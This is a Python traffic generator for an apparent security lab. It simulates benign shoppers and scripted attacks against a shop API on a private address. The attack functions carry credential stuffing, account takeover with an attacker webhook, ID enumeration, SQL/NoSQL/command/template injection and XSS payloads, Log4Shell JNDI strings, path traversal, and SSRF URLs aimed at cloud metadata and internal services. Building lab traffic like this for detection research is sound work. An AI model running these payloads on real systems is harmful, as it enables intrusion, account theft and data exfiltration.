#!/usr/bin/env python3
"""lab_clients.py - python clients of the attack lab (standard library only).

  lab_clients.py benign ADDR[,ADDR...] --seed N --users USERS.json --duration S --server IP
  lab_clients.py attack NAME --addr ADDR --seed N --users USERS.json --duration S --server IP

Every client binds its source address (http.client source_address) and talks
HTTP/1.1 keep-alive to nginx on SERVER:80. Every loop is bounded in count
and in time (--duration, and the caller wraps us in `timeout`).

benign: one thread per address; each is one user of the shop (see Benign).
attack NAME: one of ATTACKS below. Prints one JSON line at the end:
{"name", "requests", "statuses": {...}}.
"""

import argparse
import collections
import http.client
import json
import random
import sys
import threading
import time
import urllib.parse

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
    "ShopApp/4.12.1 (iPhone; iOS 17.1; Scale/3.00)",
    "ShopApp/4.11.0 (Android 13; SM-S911B)",
    "okhttp/4.11.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.72",
]


class Client:
    """One keep-alive HTTP/1.1 connection from a fixed source address."""

    def __init__(self, server, addr, ua, port=80, timeout=10):
        self.server, self.addr, self.ua, self.port, self.timeout = server, addr, ua, port, timeout
        self.conn = None
        self.token = None
        self.n = 0
        self.statuses = collections.Counter()
        self.first = None

    def close(self):
        if self.conn:
            self.conn.close()
            self.conn = None

    def req(self, method, path, body=None, headers=None, form=False, auth=True):
        h = {"User-Agent": self.ua, "Accept": "application/json"}
        if auth and self.token:
            h["Authorization"] = "Bearer " + self.token
        data = None
        if body is not None:
            if form:
                data = urllib.parse.urlencode(body).encode()
                h["Content-Type"] = "application/x-www-form-urlencoded"
            elif isinstance(body, (bytes, str)):
                data = body.encode() if isinstance(body, str) else body
                h["Content-Type"] = "application/json"
            else:
                data = json.dumps(body).encode()
                h["Content-Type"] = "application/json"
        h.update(headers or {})
        for attempt in (0, 1):
            if self.conn is None:
                self.conn = http.client.HTTPConnection(self.server, self.port, timeout=self.timeout,
                                                       source_address=(self.addr, 0))
            try:
                if self.first is None:
                    self.first = time.time()
                self.conn.request(method, path, body=data, headers=h)
                r = self.conn.getresponse()
                raw = r.read()
                self.n += 1
                self.statuses[r.status] += 1
                if r.will_close:
                    self.close()
                try:
                    js = json.loads(raw) if raw and raw[:1] in b"{[" else None
                except ValueError:
                    js = None
                return r.status, js, raw
            except (OSError, http.client.HTTPException):
                # server closed an idle keep-alive connection: reconnect once
                self.close()
                if attempt:
                    self.statuses["error"] += 1
                    return 0, None, b""
        return 0, None, b""

    def login(self, user, pw, form=False):
        st, js, _ = self.req("POST", "/api/v1/login", {"username": user, "password": pw}, form=form, auth=False)
        if st == 200 and js:
            self.token = js.get("token")
        return st


def load_users(path):
    d = json.load(open(path))
    return d["accounts"], d["emails"], d["user_ids"]


def fake_email(rnd):
    fn = rnd.choice(["john", "jane", "mike", "sara", "tom", "anna", "alex", "kate", "chris", "lisa",
                     "paul", "maria", "david", "laura", "mark", "nina", "peter", "julia", "sam", "eva"])
    ln = rnd.choice(["miller", "meyer", "garcia", "lopez", "kim", "nguyen", "fischer", "rossi",
                     "dubois", "novak", "silva", "kowalski", "smith", "jones", "brown"])
    sep = rnd.choice([".", "_", ""])
    num = rnd.choice(["", str(rnd.randrange(100)), str(rnd.randrange(1960, 2005))])
    return "%s%s%s%s@%s" % (fn, sep, ln, num, rnd.choice(["gmail.com", "yahoo.com", "outlook.com",
                                                            "example.com", "proton.me", "mail.ru"]))


# ---------------------------------------------------------------------------
# benign users

SEARCH_WORDS = ["phone", "laptop", "cable", "charger", "case", "headphones", "speaker", "mouse",
                "keyboard", "monitor", "camera", "tablet", "watch", "pro", "mini", "wireless", "usb c", "lamp"]


def benign_user(server, addr, seed, username, acct, emails, user_ids, deadline, out):
    rnd = random.Random("%d-%s" % (seed, addr))
    c = Client(server, addr, rnd.choice(BROWSER_UAS))
    think = lambda: time.sleep(min(rnd.uniform(0.2, 3.0), max(0, deadline - time.time())))  # noqa: E731
    time.sleep(rnd.uniform(0, 4))
    # landing: a few products before logging in
    c.req("GET", "/api/v1/products?limit=%d" % rnd.choice([5, 8, 10]), auth=False)
    think()
    if rnd.random() < 0.25:  # one typo, then the right password
        c.login(username, acct["password"][:-1] + "x", form=rnd.random() < 0.3)
        think()
    form = rnd.random() < 0.3
    c.login(username, acct["password"], form=form)
    think()
    c.req("GET", "/api/v1/users/%d" % acct["id"])
    orders = []
    lookups = rnd.randint(0, 2)
    while time.time() < deadline:
        think()
        if time.time() >= deadline:
            break
        x = rnd.random()
        if x < 0.30:
            q = urllib.parse.quote(rnd.choice(SEARCH_WORDS))
            c.req("GET", "/api/v1/products?q=%s&limit=%d" % (q, rnd.choice([5, 8, 10])))
        elif x < 0.55:
            c.req("GET", "/api/v1/products/%d" % rnd.randint(1, 200))
        elif x < 0.63:
            st, js, _ = c.req("POST", "/api/v1/orders", {"product_id": rnd.randint(1, 200),
                                                         "quantity": rnd.randint(1, 3)})
            if st == 201 and js:
                orders.append(js["id"])
        elif x < 0.71 and orders:
            c.req("GET", "/api/v1/orders/%s" % rnd.choice(orders))
        elif x < 0.76:
            c.req("GET", "/api/v1/users/%d" % (acct["id"] if rnd.random() < 0.6 else rnd.choice(user_ids)))
        elif x < 0.80 and lookups > 0:
            lookups -= 1
            em = rnd.choice(emails) if rnd.random() < 0.8 else fake_email(rnd)
            c.req("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))
        elif x < 0.84:
            c.req("GET", "/api/v1/reports/%d" % rnd.randint(1, 300))
        elif x < 0.87:
            typo = rnd.choice(["/api/v1/prodcts?limit=10", "/api/v1/products/%d" % rnd.randint(201, 260),
                               "/api/v1/order", "/favicon.ico", "/api/v1/user/%d" % acct["id"]])
            c.req("GET", typo)
        elif x < 0.89 and acct["role"] == "admin":
            c.req("GET", "/api/v1/admin/stats")
        elif x < 0.90 and acct["role"] == "admin" and not out.get(addr + "-export"):
            out[addr + "-export"] = True
            c.req("GET", "/api/v1/export?format=csv")
        elif x < 0.93:
            c.req("GET", "/api/v1/health", auth=False)
        else:
            c.req("GET", "/api/v1/products?limit=5&page=%d" % rnd.randint(1, 5))
        if rnd.random() < 0.06:  # tab closed / app backgrounded: new connection later
            c.close()
    c.close()
    out[addr] = {"requests": c.n, "statuses": dict(c.statuses)}


def run_benign(a):
    accounts, emails, user_ids = load_users(a.users)
    names = sorted(accounts)
    rnd = random.Random(a.seed)
    rnd.shuffle(names)
    addrs = a.target.split(",")
    deadline = time.time() + a.duration
    out = {}
    ths = []
    for i, addr in enumerate(addrs):
        u = names[i % len(names)]
        t = threading.Thread(target=benign_user, args=(a.server, addr, a.seed, u, accounts[u], emails,
                                                       user_ids, deadline, out), daemon=True)
        t.start()
        ths.append(t)
    for t in ths:
        t.join(a.duration + 30)
    print(json.dumps({k: v for k, v in out.items() if not k.endswith("-export")}))


# ---------------------------------------------------------------------------
# scripted attacks. Each gets (client factory, rnd, users, deadline) and
# returns nothing; the Client counts requests.

def pw_list(n, rnd, skip=0):
    words = [w.strip() for w in open("/usr/share/nmap/nselib/data/passwords.lst", encoding="latin-1")
             if w.strip() and not w.startswith("#!")]
    start = rnd.randrange(0, 2000)
    return words[start:start + n]


def atk_credential_stuffing(c, rnd, U, deadline):
    accounts, emails, _ = U
    pws = pw_list(400, rnd)
    pairs = []
    for _ in range(150):
        user = rnd.choice([fake_email(rnd), fake_email(rnd).split("@")[0], rnd.choice(emails)])
        pairs.append((user, rnd.choice(pws)))
    # two leaked pairs that really work (password reuse)
    for name in rnd.sample(sorted(accounts), 2):
        pairs[rnd.randrange(20, 150)] = (name, accounts[name]["password"])
    for user, pw in pairs:
        if time.time() > deadline:
            break
        c.ua = rnd.choice(BROWSER_UAS)  # rotates user agents like stuffing tools do
        c.login(user, pw, form=False)
        c.token = None
        time.sleep(rnd.uniform(0.03, 0.25))


def atk_account_takeover(c, rnd, U, deadline):
    accounts, _, _ = U
    victim = rnd.choice(sorted(n for n in accounts if accounts[n]["role"] != "admin"))
    acct = accounts[victim]
    pws = pw_list(rnd.randint(35, 60), rnd)
    for pw in pws:
        if time.time() > deadline:
            return
        c.login(victim, pw)
        time.sleep(rnd.uniform(0.05, 0.4))
    if c.login(victim, acct["password"]) != 200:
        return
    time.sleep(1.0)
    c.req("GET", "/api/v1/users/%d" % acct["id"])
    time.sleep(0.5)
    c.req("GET", "/api/v1/admin/stats")
    for _ in range(3):
        time.sleep(rnd.uniform(0.3, 1.0))
        c.req("POST", "/api/v1/orders", {"product_id": rnd.randint(1, 200), "quantity": 5})
    c.req("POST", "/api/v1/webhooks", {"url": "https://hooks.attacker.example/collect"})


def _login_any(c, rnd, accounts):
    name = rnd.choice(sorted(n for n in accounts if accounts[n]["role"] != "admin"))
    c.login(name, accounts[name]["password"])
    return name


def atk_bola_walk(c, rnd, U, deadline):
    accounts, _, _ = U
    _login_any(c, rnd, accounts)
    start = rnd.randint(100, 4000)
    for uid in range(start, start + 400):
        if time.time() > deadline:
            break
        c.req("GET", "/api/v1/users/%d" % uid)
        time.sleep(rnd.uniform(0.005, 0.03))


def atk_lookup_oracle(c, rnd, U, deadline):
    _, emails, _ = U
    for _ in range(300):
        if time.time() > deadline:
            break
        em = rnd.choice(emails) if rnd.random() < 0.06 else fake_email(rnd)
        c.req("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))
        time.sleep(rnd.uniform(0.01, 0.06))


def atk_low_and_slow(c, rnd, U, deadline):
    accounts, emails, _ = U
    mode = rnd.choice(["lookup", "ids"])
    if mode == "ids":
        _login_any(c, rnd, accounts)
        uid = rnd.randint(100, 4000)
    for _ in range(100):
        if time.time() > deadline:
            break
        if mode == "ids":
            c.req("GET", "/api/v1/users/%d" % uid)
            uid += 1
        else:
            em = rnd.choice(emails) if rnd.random() < 0.1 else fake_email(rnd)
            c.req("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))
        time.sleep(rnd.uniform(0.7, 1.5))


INJ_Q = ["' OR '1'='1", "1' OR 1=1-- -", "\" OR \"\"=\"", "1; DROP TABLE users--", "' UNION SELECT username,password FROM users--",
         "admin'--", "1' AND SLEEP(5)-- -", "';WAITFOR DELAY '0:0:5'--", ";cat /etc/passwd", "| id", "$(id)",
         "`uname -a`", "&& ping -c 3 10.77.0.250", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
         "javascript:alert(document.cookie)", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__}}",
         "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%00", "{\"$gt\":\"\"}", "[$ne]=1"]
INJ_PATHS = ["/api/v1/products/1%20OR%201=1", "/api/v1/products/..%2f..%2f..%2fetc%2fpasswd",
             "/api/v1/reports/..%2F..%2F..%2F..%2Fetc%2Fshadow", "/api/v1/products/1;ls%20-la",
             "/api/v1/users/1'%20OR%20'1'='1", "/api/v1/orders/../../../../windows/win.ini",
             "/static/..%252f..%252f..%252fetc/passwd", "/api/v1/products/%7B%7B7*7%7D%7D",
             "/cgi-bin/;cat%20/etc/passwd", "/api/v1/export?format=csv;id"]


def atk_injection_mix(c, rnd, U, deadline):
    accounts, _, _ = U
    items = []
    for p in INJ_Q:
        items.append(("GET", "/api/v1/products?q=%s&limit=10" % urllib.parse.quote(p), None, None))
        if rnd.random() < 0.5:
            items.append(("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(p), None, None))
    items += [("GET", p, None, None) for p in INJ_PATHS]
    # NoSQL operator injection
    victim = rnd.choice(sorted(accounts))
    items += [("POST", "/api/v1/login", {"username": victim, "password": {"$ne": None}}, None),
              ("POST", "/api/v1/login", {"username": {"$gt": ""}, "password": {"$gt": ""}}, None),
              ("POST", "/api/v1/login", {"username": victim, "password": {"$regex": "^a"}}, None),
              ("GET", "/api/v1/products?q[$ne]=x", None, None),
              ("GET", "/api/v1/users/lookup?email[$regex]=.*", None, None),
              ("POST", "/api/v1/login", {"username": "admin' --", "password": "x"}, None)]
    # log4shell / header injection
    for hdr in ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"]:
        items.append(("GET", "/api/v1/health", None, {hdr: "${jndi:ldap://10.77.0.250:1389/Exploit}"}))
    items.append(("GET", "/api/v1/products?q=${jndi:dns://10.77.0.250/a}", None,
                  {"User-Agent": "${${lower:j}ndi:${lower:l}dap://10.77.0.250/x}"}))
    rnd.shuffle(items)
    for m, p, body, hdrs in items:
        if time.time() > deadline:
            break
        c.req(m, p.replace(" ", "%20"), body, headers=hdrs)
        time.sleep(rnd.uniform(0.05, 0.4))


SSRF_URLS = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             "http://169.254.169.254/computeMetadata/v1/?recursive=true", "http://metadata.google.internal/",
             "http://127.0.0.1:8081/api/v1/admin/stats", "http://localhost:6379/", "http://127.0.0.1:22/",
             "http://10.0.0.5:9200/_cat/indices", "http://10.77.0.1:8081/", "http://192.168.1.1/admin",
             "http://[::ffff:127.0.0.1]/", "http://[::1]:80/", "http://2130706433/", "http://0x7f000001/",
             "http://0177.0.0.1/", "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd",
             "dict://127.0.0.1:11211/stats", "http://169.254.169.254.nip.io/", "http://127.1/"]


def atk_ssrf(c, rnd, U, deadline):
    accounts, _, _ = U
    _login_any(c, rnd, accounts)
    urls = list(SSRF_URLS)
    rnd.shuffle(urls)
    c.req("POST", "/api/v1/webhooks", {"url": "https://hooks.example.com/shop"})
    for u in urls:
        if time.time() > deadline:
            break
        time.sleep(rnd.uniform(0.2, 1.0))
        c.req("POST", "/api/v1/webhooks", {"url": u, "events": ["order.created"]})


def atk_auth_bypass(c, rnd, U, deadline):
    ids = rnd.sample(range(1, 301), 20) + list(range(s := rnd.randint(1, 280), s + 10))
    for rid in ids:
        if time.time() > deadline:
            break
        c.req("GET", "/api/v1/reports/%d" % rid, auth=False)
        time.sleep(rnd.uniform(0.1, 0.6))


def atk_export_scrape(c, rnd, U, deadline):
    accounts, _, _ = U
    _login_any(c, rnd, accounts)
    for i in range(8):
        if time.time() > deadline:
            break
        c.req("GET", "/api/v1/export?format=%s" % ("json" if i == 4 else "csv"))
        time.sleep(rnd.uniform(0.5, 2.0))


ATTACKS = {
    "credential-stuffing": (atk_credential_stuffing, "python-requests/2.31.0"),
    "account-takeover": (atk_account_takeover, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                               "(KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36"),
    "bola-walk": (atk_bola_walk, "python-requests/2.28.1"),
    "lookup-oracle": (atk_lookup_oracle, "python-requests/2.31.0"),
    "low-and-slow": (atk_low_and_slow, "ShopApp/4.12.1 (iPhone; iOS 17.1; Scale/3.00)"),
    "injection-mix": (atk_injection_mix, "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
    "ssrf-webhooks": (atk_ssrf, "curl/7.88.1"),
    "auth-bypass-reports": (atk_auth_bypass, "curl/7.88.1"),
    "export-scrape": (atk_export_scrape, "python-requests/2.31.0"),
}


def run_attack(a):
    U = load_users(a.users)
    fn, ua = ATTACKS[a.target]
    rnd = random.Random("%d-%s" % (a.seed, a.target))
    c = Client(a.server, a.addr, ua)
    fn(c, rnd, U, time.time() + a.duration)
    c.close()
    print(json.dumps({"name": a.target, "requests": c.n, "first": c.first,
                      "statuses": {str(k): v for k, v in c.statuses.items()}}))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["benign", "attack"])
    ap.add_argument("target", help="benign: comma-separated addresses; attack: attack name")
    ap.add_argument("--addr")
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--users", required=True)
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--server", default="10.77.0.1")
    a = ap.parse_args()
    (run_benign if a.mode == "benign" else run_attack)(a)


if __name__ == "__main__":
    sys.exit(main())
